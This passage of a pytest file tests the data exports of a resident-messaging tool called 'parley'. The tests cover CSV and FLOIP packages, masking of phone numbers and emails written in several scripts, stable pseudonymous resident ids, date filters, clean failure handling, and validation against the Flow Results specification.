    assert rows[-1] == [Shown("string", None, "'quoted")]  # the apostrophe is shown


@needs_libreoffice
def test_a_responses_export_opens_in_libreoffice_as_the_residents_wrote(
    tmp_path: Path, libreoffice: Path
) -> None:
    seed(tmp_path, _texts)
    out = export(tmp_path, "r.csv", "responses", "--flow", "priorities", "--with-addresses")
    header = read_csv(out)[0]
    rows = open_in_libreoffice(out, libreoffice, LOCALES["en-GB"])
    assert [cell.text for cell in rows[0]] == header
    more = header.index(flow_header("priorities")[-1])
    for text, row in zip((*MARKED, *PLAIN, LONG_CODE), rows[1:], strict=False):
        assert row[more].kind == ("float" if text in ("12", "0") else "string"), (text, row[more])
        assert read_text(row[more].text) == _as_shown(text)
    years = header.index(next(name for name in header if name.startswith("years: ")))
    assert rows[-1][years] == Shown("float", "-5", "-5")
    assert rows[-1][years + 1].kind == "string"


# -- 3. no phone number, chat id or email in a default export ---------------------------------

_BETWEEN_DIGITS = re.compile(r"(?<=\d)[ \t\u00a0().\-]+(?=\d)")


def digits_of(text: str) -> str:
    """``text`` with every script's digits as ASCII digits, and the spaces, dots, dashes
    and brackets people write in phone numbers taken from between them."""
    folded = "".join(str(unicodedata.decimal(ch)) if ch.isdecimal() else ch for ch in text)
    return _BETWEEN_DIGITS.sub("", folded)


def needle(number: str) -> str:
    """What identifies a typed number whichever way it is written: its last ten digits
    (07700 900123 and +44 7700 900123 alike), or all of a shorter chat id."""
    return digits_of(number).lstrip("+")[-10:]


def numbers_in(text: str, numbers: Iterable[str]) -> set[str]:
    """Which of ``numbers`` are in ``text``, however their digits are written there."""
    plain = digits_of(text)
    return {number for number in numbers if needle(number) in plain}


def files_in(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Every file under ``folder`` (a zip file's members too): name and bytes."""
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            yield str(path), path.read_bytes()
            if path.suffix == ".zip":
                with zipfile.ZipFile(path) as archive:
                    for member in archive.namelist():
                        yield f"{path}:{member}", archive.read(member)


EVERY_EXPORT: tuple[tuple[str, ...], ...] = (
    ("responses", "--flow", "priorities"),
    ("responses", "--flow", "idea"),
    ("responses", "--flow", "welcome"),
    ("responses", "--flow", "menu"),
    ("votes",),
    ("ideas",),
    ("decisions",),
    ("contacts",),
    ("messages",),
)


def export_everything(home: Path, *flags: str) -> Path:
    folder = home / ("with-addresses" if flags else "default")
    for number, args in enumerate(EVERY_EXPORT):
        export(home, f"{number}-{args[0]}.csv", *args, *flags)
    for flow_id in ("priorities", "idea"):
        floip = ("responses", "--flow", flow_id, "--format", "floip", *flags)
        export(home, f"{flow_id}.zip", *floip)
        export(home, f"{flow_id}-floip", *floip)
    (home / "exports").rename(folder)
    return folder


def test_no_default_export_holds_a_phone_number_chat_id_or_email(town: Path) -> None:
    folder = export_everything(town)
    addresses = [address for (address,) in query(town, "SELECT address FROM contacts")]
    assert len(addresses) == 8
    numbers = (*addresses, *TYPED_NUMBERS)
    assert len({needle(number) for number in numbers}) == len(numbers)
    assert all(len(needle(number)) >= 9 for number in numbers)
    scanned = 0
    for name, data in files_in(folder):
        zipped = name.endswith(".zip")  # the archive itself: compressed bytes
        text = data.decode("latin-1" if zipped else "utf-8")
        assert numbers_in(text, numbers) == set(), name
        for email in TYPED_EMAILS:
            assert email not in text.lower(), f"{email} in {name}"
        scanned += 1
    assert scanned == len(EVERY_EXPORT) + 2 * 3 + 2 * 2  # a zip: itself and 2 members
    # What residents wrote is there, with the details hidden.
    messages = " ".join(row["text"] for row in records(folder / "8-messages.csv"))
    assert "my number again: [phone]" in messages
    assert "شماره من [phone]" in messages
    ideas = {row["text"] for row in records(folder / "5-ideas.csv")}
    assert ideas == {
        "More bins; call me on [phone] or [email]",
        "أضواء الشارع، اتصل بي على [phone]",
    }
    [gary] = [row for row in records(folder / "7-contacts.csv") if row["callback"]]
    assert gary["callback"] == "[phone]"


def test_an_export_with_addresses_has_them_and_is_logged(town: Path) -> None:
    export(town, "votes.csv", "votes")
    flag = "--with-addresses"
    contacts_file = export(town, "contacts.csv", "contacts", flag)
    addresses = {address for (address,) in query(town, "SELECT address FROM contacts")}
    assert {row["address"] for row in records(contacts_file)} == addresses
    assert numbers_in(contacts_file.read_text(encoding="utf-8"), addresses) == addresses
    messages_file = export(town, "messages.csv", "messages", flag)
    messages = records(messages_file)
    assert {GARY_AGAIN, HANA_AGAIN} <= {row["text"] for row in messages}
    typed = numbers_in(messages_file.read_text(encoding="utf-8"), TYPED_NUMBERS)
    assert typed == set(TYPED_NUMBERS) - {GARY_FIELD}  # as written, in any script
    ideas = records(export(town, "ideas.csv", "ideas", flag))
    assert {row["text"] for row in ideas} == {FRAN_IDEA, HANA_IDEA}
    export(town, "p.zip", "responses", "--flow", "priorities", "--format", "floip", flag)
    logged = query(town, "SELECT what, format, addresses, rows FROM exports ORDER BY id")
    assert logged == [
        ("votes", "csv", 0, 4),
        ("contacts", "csv", 1, 8),
        ("messages", "csv", 1, len(messages)),
        ("ideas", "csv", 1, 2),
        ("responses", "floip", 1, logged[-1][-1]),
    ]
    shown = ok(parley(town, "exports")).splitlines()
    assert [line.split()[2:4] for line in shown] == [[what, form] for what, form, *_ in logged]
    assert shown[0].endswith(" by cli")
    assert all(line.endswith(" by cli WITH ADDRESSES") for line in shown[1:])


@pytest.mark.parametrize(
    "text",
    [
        "07700 900 456",
        "+44 7700 900456",
        "+44-7700-900-456",
        "(07700) 900456",
        "07700.900.456",
        "٠٧٧٠٠ ٩٠٠ ٤٥٦",
        "۰۷۷۰۰۹۰۰۴۵۶",
        "০৭৭০০ ৯০০ ৪৫৬",
        "+44 ٧٧٠٠ ٩٠٠ ٤٥٦",
    ],
)
def test_phone_numbers_as_residents_write_them_are_hidden(text: str) -> None:
    hidden = hide_contact_details(f"call me on {text} please", "GB")
    assert hidden == "call me on [phone] please"


@pytest.mark.parametrize(
    "text",
    [
        "call me on 07700–900–456",  # en dashes, as phone keyboards make them
        "call me on 07700 - 900 - 456",
        "call me on 07700/900/456",
        "اتصل٠٧٧٠٠٩٠٠٤٥٦",  # written on to the word, no space
    ],
)
def test_phone_numbers_written_with_other_separators_are_hidden(text: str) -> None:
    hidden = hide_contact_details(text, "GB")
    assert "[phone]" in hidden
    assert not any(character.isdecimal() for character in hidden)


HOUSEHOLD = """\
flow: household
title: Household
language: en
expiry: 1d
steps:
  - id: people
    type: number
    text:
      en: "How many people live in your home?"
"""


def test_a_phone_number_sent_to_a_number_question_is_not_exported(tmp_path: Path) -> None:
    flows = tmp_path / "flows"
    shutil.copytree(REPO / "flows", flows)
    (flows / "household.yaml").write_text(HOUSEHOLD, encoding="utf-8")
    env = {"PARLEY_FLOWS": str(flows)}
    loaded, _ = load_content(settings_for(tmp_path, **env))
    [question] = loaded["household"].questions()
    assert isinstance(question, NumberQuestion)
    typed = "07700900456"
    parsed = parse(question, typed, ["en"])  # the engine takes it as a number
    assert isinstance(parsed, Parsed)

    def work(tx: Tx) -> None:
        contact = contacts.ensure(tx, "sms", "+447700900001", "en", NOW)
        store_run(tx, contact, {"people": (parsed.value, typed)}, NOW, flow_id="household")

    seed(tmp_path, work)
    export(tmp_path, "r.csv", "responses", "--flow", "household", env=env)
    export(tmp_path, "f", "responses", "--flow", "household", "--format", "floip", env=env)
    for name, data in files_in(tmp_path / "exports"):
        assert numbers_in(data.decode("utf-8"), [typed]) == set(), name


HOME_NUMBERS = """\
flow: home
title: Home
language: en
expiry: 1d
steps:
  - id: people
    type: number
    text:
      en: "How many people live in your home?"
  - id: note
    type: text
    text:
      en: "Anything else?"
"""


def test_a_number_from_the_residents_own_country_is_hidden(tmp_path: Path) -> None:
    """A Polish resident in a GB deployment writes a Polish mobile as Poles do, with no
    +48 and no trunk 0: hidden in what they answered, sent and gave as a field. The
    same digits from an English resident are no number where English points (the US)
    and stay; the Polish reply is not taken from what was worked out for the English."""
    flows = tmp_path / "flows"
    shutil.copytree(REPO / "flows", flows)
    (flows / "home.yaml").write_text(HOME_NUMBERS, encoding="utf-8")
    env = {"PARLEY_FLOWS": str(flows)}
    typed = "600 123 456"
    said = f"mój numer {typed}"

    def work(tx: Tx) -> None:
        for minutes, language in enumerate(("en", "pl")):
            at = NOW + timedelta(minutes=minutes)
            contact = contacts.ensure(tx, "sms", f"+44770090000{minutes}", language, at)
            store_run(tx, contact, {"people": (600123456, typed), "note": (said, said)}, at,
                      flow_id="home")  # fmt: skip
            add_inbound(tx, contact.id, "sms", f"SM{minutes}", said, at)
            contacts.update(tx, contact, {"callback": typed})

    seed(tmp_path, work)
    english, polish = records(export(tmp_path, "r.csv", "responses", "--flow", "home", env=env))
    assert (english["language"], polish["language"]) == ("en", "pl")
    people = "people: How many people live in your home?"
    cells = (people, "people (reply)", "note: Anything else?")
    assert [polish[name] for name in cells] == ["[phone]", "[phone]", "mój numer [phone]"]
    assert [english[name] for name in cells] == ["600123456", typed, said]
    package = export(tmp_path, "f", "responses", "--flow", "home", "--format", "floip", env=env)
    rows = read_csv(package / "data" / "responses.csv")[1:]
    english_floip = [" ".join(row) for row in rows if row[2] == english["resident"]]
    polish_floip = [" ".join(row) for row in rows if row[2] == polish["resident"]]
    assert len(english_floip) == len(polish_floip) == 2
    assert all(numbers_in(text, [typed]) for text in english_floip)
    assert not any(numbers_in(text, [typed]) for text in polish_floip)
    messages = records(export(tmp_path, "m.csv", "messages", env=env))
    assert [row["text"] for row in messages] == [said, "mój numer [phone]"]
    fields = records(export(tmp_path, "c.csv", "contacts", env=env))
    assert [row["callback"] for row in fields] == [typed, "[phone]"]


# -- 4. residents' pseudonymous ids -----------------------------------------------------------


def ids_by_address(path: Path) -> dict[str, str]:
    return {row["address"]: row["resident"] for row in records(path)}


def test_ids_are_stable_across_exports_and_kinds_and_differ_between_residents(
    town: Path,
) -> None:
    first = export(town, "1.csv", "responses", "--flow", "priorities")
    again = export(town, "2.csv", "responses", "--flow", "priorities")
    assert first.read_bytes() == again.read_bytes()
    answered = ids_by_address(
        export(town, "3.csv", "responses", "--flow", "priorities", "--with-addresses")
    )
    voted = ids_by_address(export(town, "4.csv", "votes", "--with-addresses"))
    everyone = ids_by_address(export(town, "5.csv", "contacts", "--with-addresses"))
    assert len(voted) == 4
    assert voted == {address: answered[address] for address in voted}  # who did both
    for address, resident in {**answered, **voted}.items():
        assert everyone[address] == resident
    assert len(set(everyone.values())) == len(everyone) == 8
    # Without addresses, the same ids.
    runs = runs_of(town, "priorities")
    for row in records(first):
        [address] = [a for a, run in runs.items() if run == int(row["run"])]
        assert row["resident"] == answered[address]
    assert {row["resident"] for row in records(export(town, "6.csv", "votes"))} == set(
        voted.values()
    )
    # The FLOIP package's contact ids are the same ids.
    package = export(town, "p", "responses", "--flow", "priorities", "--format", "floip")
    floip_ids = {row[2] for row in read_csv(package / "data" / "responses.csv")[1:]}
    assert floip_ids == set(answered.values())
    for resident in everyone.values():
        assert PSEUDONYM.match(resident)
        assert text_cell(resident) == resident  # nothing a spreadsheet would change
        with pytest.raises(ValueError, match="could not convert"):
            float(resident)


def test_ids_change_with_the_export_secret(town: Path) -> None:
    def ids(name: str, secret: str | None) -> dict[str, str]:
        env = {"PARLEY_EXPORT_SECRET": secret}
        return ids_by_address(export(town, name, "contacts", "--with-addresses", env=env))

    kept = ids("kept.csv", None)  # the database's own key
    assert ids("kept-again.csv", None) == kept
    given_secret = ids("secret.csv", SECRET)
    assert ids("secret-again.csv", SECRET) == given_secret
    other = ids("other.csv", SECRET + "!")
    assert kept.keys() == given_secret.keys() == other.keys()
    for address in kept:
        assert len({kept[address], given_secret[address], other[address]}) == 3


def test_a_short_export_secret_is_refused_by_name(town: Path) -> None:
    with pytest.raises(ConfigError, match="PARLEY_EXPORT_SECRET"):
        settings_for(town, PARLEY_EXPORT_SECRET="fifteen chars!!")
    assert settings_for(town, PARLEY_EXPORT_SECRET="sixteen chars!!!").export_secret
    result = parley(town, "export", "votes", env={"PARLEY_EXPORT_SECRET": "too short"})
    assert result.exit_code != 0
    assert "PARLEY_EXPORT_SECRET" in result.output
    assert query(town, "SELECT count(*) FROM exports") == [(0,)]


# -- 5. options, and failures that leave nothing behind ---------------------------------------


def test_bom_only_when_asked(town: Path) -> None:
    plain = export(town, "plain.csv", "responses", "--flow", "priorities").read_bytes()
    marked = export(town, "bom.csv", "responses", "--flow", "priorities", "--bom").read_bytes()
    assert not plain.startswith(BOM.encode("utf-8"))
    assert marked.startswith(b"\xef\xbb\xbf")
    assert marked[3:] == plain
    assert marked.decode("utf-8-sig") == plain.decode("utf-8")


STARTS = {  # run -> when it started, in UTC (London is an hour ahead)
    "may 31": datetime(2026, 5, 31, 12, 0, tzinfo=UTC),
    "june 2, 00:30": datetime(2026, 6, 1, 23, 30, tzinfo=UTC),
    "june 2, 23:30": datetime(2026, 6, 2, 22, 30, tzinfo=UTC),
    "june 3, 00:30": datetime(2026, 6, 2, 23, 30, tzinfo=UTC),
}


def _runs_on_days(tx: Tx) -> None:
    for number, started in enumerate(STARTS.values()):
        contact = contacts.ensure(tx, "sms", f"+44770090{number:04d}", "en", started)
        store_run(tx, contact, {"top_issue": ("parks", "4")}, started)


@pytest.mark.parametrize(
    ("window", "expected"),
    [
        (("--since", "2026-06-02"), ["june 2, 00:30", "june 2, 23:30", "june 3, 00:30"]),
        (("--until", "2026-06-02"), ["may 31", "june 2, 00:30", "june 2, 23:30"]),
        (("--since", "2026-06-02", "--until", "2026-06-02"), ["june 2, 00:30", "june 2, 23:30"]),
        (("--since", "2026-06-02 00:30"), ["june 2, 00:30", "june 2, 23:30", "june 3, 00:30"]),
        (("--until", "2026-06-02 23:30"), ["may 31", "june 2, 00:30"]),
        (("--since", "2026-06-04"), []),
    ],
)
def test_since_and_until_are_local_dates_and_a_bare_until_includes_its_day(
    tmp_path: Path, window: tuple[str, ...], expected: list[str]
) -> None:
    seed(tmp_path, _runs_on_days)
    out = export(tmp_path, "r.csv", "responses", "--flow", "priorities", *window)
    names = {started: name for name, started in STARTS.items()}
    shown = [names[local_time(row["started"]).astimezone(UTC)] for row in records(out)]
    assert shown == expected


def test_since_after_until_is_refused(tmp_path: Path) -> None:
    seed(tmp_path, _runs_on_days)
    out = tmp_path / "r.csv"
    args = ("--since", "2026-06-03", "--until", "2026-06-01", "-o", str(out))
    result = parley(tmp_path, "export", "responses", "--flow", "priorities", *args)
    assert result.exit_code != 0
    assert "--since must come before --until" in result.output
    assert not out.exists()


def test_a_floip_package_needs_an_output(town: Path) -> None:
    result = parley(town, "export", "responses", "--flow", "priorities", "--format", "floip")
    assert result.exit_code == 2
    assert "--output" in result.output
    assert "give a folder or a .zip" in result.output
    assert query(town, "SELECT count(*) FROM exports") == [(0,)]


def leftovers(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir()) if folder.exists() else []


@pytest.mark.parametrize(
    ("name", "form"), [("out.csv", "csv"), ("out.zip", "floip"), ("out", "floip")]
)
def test_an_unknown_flow_is_an_error_and_leaves_no_file(town: Path, name: str, form: str) -> None:
    folder = town / "exports"
    folder.mkdir()
    args = ("--flow", "nowhere", "--format", form, "-o", str(folder / name))
    result = parley(town, "export", "responses", *args)
    assert result.exit_code == 1
    assert isinstance(result.exception, SystemExit)  # click's error, not a crash
    assert "there is no flow 'nowhere'" in result.output
    assert leftovers(folder) == []


def _break_the_last_answer(tx: Tx) -> None:
    tx.execute(
        "UPDATE answers SET value = 'not json'"
        " WHERE id = (SELECT MAX(id) FROM answers WHERE flow_id = 'priorities')"
    )


def test_a_csv_export_failing_half_way_leaves_no_file(town: Path) -> None:
    seed(town, _break_the_last_answer)
    folder = town / "exports"
    folder.mkdir()
    out = folder / "out.csv"
    result = parley(town, "export", "responses", "--flow", "priorities", "-o", str(out))
    assert result.exit_code != 0
    assert leftovers(folder) == []


@pytest.mark.parametrize("name", ["out.zip", "out"])
def test_a_floip_export_failing_half_way_leaves_no_package(town: Path, name: str) -> None:
    seed(town, _break_the_last_answer)
    folder = town / "exports"
    folder.mkdir()
    args = ("--flow", "priorities", "--format", "floip", "-o", str(folder / name))
    result = parley(town, "export", "responses", *args)
    assert result.exit_code != 0
    assert leftovers(folder) == []


# -- 6. the FLOIP package against the specification -------------------------------------------

SCHEMA = json.loads((Path(__file__).parent / "floip_schema.json").read_text(encoding="utf-8"))
RFC_3339_WITH_OFFSET = re.compile(
    r"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\.[0-9]+)?[+-][0-9]{2}:[0-9]{2}$"
)
NUMBER = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")


def package_files(target: Path) -> tuple[dict[str, Any], list[list[str]]]:
    """The descriptor and the data rows (header first) of a package, zipped or not."""
    if target.suffix == ".zip":
        with zipfile.ZipFile(target) as archive:
            assert sorted(archive.namelist()) == ["data/responses.csv", "datapackage.json"]
            descriptor = json.loads(archive.read("datapackage.json").decode("utf-8"))
            data = archive.read("data/responses.csv").decode("utf-8")
    else:
        descriptor = json.loads((target / "datapackage.json").read_text(encoding="utf-8"))
        data = (target / "data" / "responses.csv").read_bytes().decode("utf-8")
    return descriptor, list(csv.reader(io.StringIO(data, newline="")))


def test_the_schema_is_a_valid_json_schema() -> None:
    jsonschema.Draft202012Validator.check_schema(SCHEMA)


@pytest.mark.parametrize("name", ["package.zip", "package"])
def test_a_floip_package_follows_the_flow_results_specification(town: Path, name: str) -> None:
    target = export(town, name, "responses", "--flow", "priorities", "--format", "floip")
    descriptor, (header, *rows) = package_files(target)
    jsonschema.Draft202012Validator(SCHEMA).validate(descriptor)
    assert descriptor["name"] == "parley-priorities"
    assert descriptor["title"] == "Local priorities"
    assert descriptor["created"] == descriptor["modified"]
    [resource] = descriptor["resources"]
    assert resource["path"] == "data/responses.csv"
    schema = resource["schema"]
    assert schema["language"] == "eng"
    questions = schema["questions"]
    assert list(questions) == [
        "top_issue",
        "housing_problem",
        "services",
        "safe_at_night",
        "years",
        "panel",
        "more",
    ]
    assert questions["top_issue"]["type_options"]["choices"] == [
        "housing",
        "safety",
        "transport",
        "parks",
        "youth",
    ]
    assert questions["services"]["type"] == "select_many"
    assert questions["safe_at_night"] == {
        "type": "numeric",
        "label": "How safe do you feel in your area at night? Reply 1 to 5"
        " (1 = not safe, 5 = very safe)",
        "type_options": {"range": [1, 5]},
    }
    assert questions["panel"]["type_options"] == {"choices": ["yes", "no"]}
    assert questions["more"]["type"] == "text"

    assert header == [field["name"] for field in schema["fields"]]
    stored = query(town, "SELECT COUNT(*) FROM answers WHERE flow_id = 'priorities'")
    assert [(len(rows),)] == stored
    assert len({row[1] for row in rows}) == len(rows)  # row ids unique
    for row in rows:
        assert len(row) == 6
        timestamp, _, contact_id, question_id, response, metadata = row
        assert RFC_3339_WITH_OFFSET.match(timestamp), timestamp
        assert PSEUDONYM.match(contact_id)
        question = questions[question_id]
        match question["type"]:
            case "select_one":
                assert response in question["type_options"]["choices"]
            case "select_many":
                chosen = json.loads(response)
                assert isinstance(chosen, list)
                assert chosen
                assert set(chosen) <= set(question["type_options"]["choices"])
            case "numeric":
                assert NUMBER.match(response), response
                low, high = question["type_options"]["range"]
                assert low <= float(response) <= high
            case "text":
                assert response
        assert isinstance(json.loads(metadata), dict)
    # What residents wrote comes back exactly: no spreadsheet marks in a package.
    texts = {row[4] for row in rows if row[3] == "more"}
    assert texts == {
        ALI_MORE.strip(),
        AMAL_MORE,
        RUPA_MORE,
        "ring me on [phone] or [phone], or mail [email]",
    }
    replies = {json.loads(row[5])["reply"] for row in rows}
    assert {"\t2 ", "  housing  ", "٤"} <= replies


FIELDS = SCHEMA["$defs"]["schema"]["properties"]["fields"]["const"]


def _valid_descriptor() -> dict[str, Any]:
    return {
        "profile": "flow-results-package",
        "flow_results_specification_version": "1.0.0-rc1",
        "created": "2017-06-30 15:35:27+00:00",
        "modified": "2017-06-30T15:38:05.123-04:00",
        "id": "0b03ec84-77fd-4270-813b-0c698943f7ce",
        "name": "flow-results-demo-package",
        "title": "March 2017 Malaria Protection Survey",
        "resources": [
            {
                "path": "data/responses.csv",
                "schema": {
                    "fields": [dict(field) for field in FIELDS],
                    "language": "eng",
                    "questions": {
                        "ae54d3": {
                            "type": "select_one",
                            "label": "Are you male or female?",
                            "type_options": {"choices": ["male", "female", "not identified"]},
                        },
                        "ae54d8": {
                            "type": "numeric",
                            "label": "How much do you weigh, in lbs?",
                            "type_options": {"range": [1, 350]},
                        },
                        "ae54da": {"type": "open", "label": "Feeling?", "type_options": {}},
                    },
                },
            }
        ],
    }


def _resource(descriptor: dict[str, Any]) -> dict[str, Any]:
    resource: dict[str, Any] = descriptor["resources"][0]
    return resource


def _questions(descriptor: dict[str, Any]) -> dict[str, Any]:
    questions: dict[str, Any] = _resource(descriptor)["schema"]["questions"]
    return questions


BROKEN: dict[str, Callable[[dict[str, Any]], None]] = {
    "another profile": lambda d: d.update(profile="data-package"),
    "another version": lambda d: d.update(flow_results_specification_version="1.1.0"),
    "no created": lambda d: d.pop("created"),
    "a date, not a date-time": lambda d: d.update(modified="2017-06-30"),
    "no offset": lambda d: d.update(created="2017-06-30T15:35:27"),
    "a version 1 UUID": lambda d: d.update(id="6fa459ea-ee8a-11e3-ac10-0800200c9a66"),
    "an upper-case name": lambda d: d.update(name="Flow-Results"),
    "two resources": lambda d: d["resources"].append(_resource(d)),
    "inline data": lambda d: _resource(d).update(data=[["2017-05-23T13:35:37-04:00"]]),
    "no path": lambda d: _resource(d).pop("path"),
    "an external schema": lambda d: _resource(d).update(schema="schema.json"),
    "a seventh field": lambda d: _resource(d)["schema"]["fields"].append({"name": "x"}),
    "a field's type": lambda d: _resource(d)["schema"]["fields"][4].update(type="string"),
    "no questions": lambda d: _resource(d)["schema"].pop("questions"),
    "an unknown question type": lambda d: _questions(d)["ae54da"].update(type="essay"),
    "no label": lambda d: _questions(d)["ae54da"].pop("label"),
    "no type options": lambda d: _questions(d)["ae54da"].pop("type_options"),
    "select without choices": lambda d: _questions(d)["ae54d3"].update(type_options={}),
    "choices not strings": lambda d: _questions(d)["ae54d3"]["type_options"].update(choices=[1, 2]),
    "a range of three": lambda d: _questions(d)["ae54d8"]["type_options"].update(range=[1, 2, 3]),
    "a two-letter language": lambda d: _resource(d)["schema"].update(language="en"),
}


def test_the_schema_takes_the_specifications_example() -> None:
    jsonschema.Draft202012Validator(SCHEMA).validate(_valid_descriptor())


@pytest.mark.parametrize("broken", list(BROKEN))
def test_the_schema_refuses_what_the_specification_does_not_allow(broken: str) -> None:
    descriptor = _valid_descriptor()
    BROKEN[broken](descriptor)
    assert not jsonschema.Draft202012Validator(SCHEMA).is_valid(descriptor)


# -- where it goes, and how far it has got ---------------------------------------------------


def test_without_an_output_the_export_goes_to_standard_output(town: Path) -> None:
    written = export(town, "priorities.csv", "responses", "--flow", "priorities")
    result = parley(town, "export", "responses", "--flow", "priorities")
    ok(result)
    assert result.stdout == written.read_text(encoding="utf-8")
    assert "rows of responses" in result.stderr  # the summary stays off the data


class _Bar:
    """Stands in for the terminal's progress bar: what it is told, and its total."""

    def __init__(self, total: int) -> None:
        self.total = total
        self.done = 0

    def __enter__(self) -> _Bar:
        return self

    def __exit__(self, *problem: object) -> None:
        return None

    def update(self, done: int) -> None:
        self.done += done


@pytest.mark.parametrize("form", ["csv", "floip"])
def test_the_progress_bar_hears_of_every_row(
    town: Path, monkeypatch: pytest.MonkeyPatch, form: str
) -> None:
    import bot.cli.exports

    bars: list[_Bar] = []

    def progress(total: int, label: str) -> _Bar:
        bars.append(_Bar(total))
        return bars[-1]

    monkeypatch.setattr(bot.cli.exports, "progress", progress)
    name = "p.zip" if form == "floip" else "p.csv"
    export(town, name, "responses", "--flow", "priorities", "--format", form)
    [bar] = bars
    assert bar.total > 0
    assert bar.done == bar.total  # every run (CSV) or answer (FLOIP) counted once


def test_a_progress_bar_is_drawn_only_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    import bot.cli.common

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    monkeypatch.setattr(sys, "stderr", io.StringIO())
    assert isinstance(bot.cli.common.progress(10, "Exporting"), bot.cli.common.Quiet)
    terminal = Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    with bot.cli.common.progress(10, "Exporting") as bar:
        bar.update(10)
    assert "Exporting" in terminal.getvalue()
    assert "100%" in terminal.getvalue()
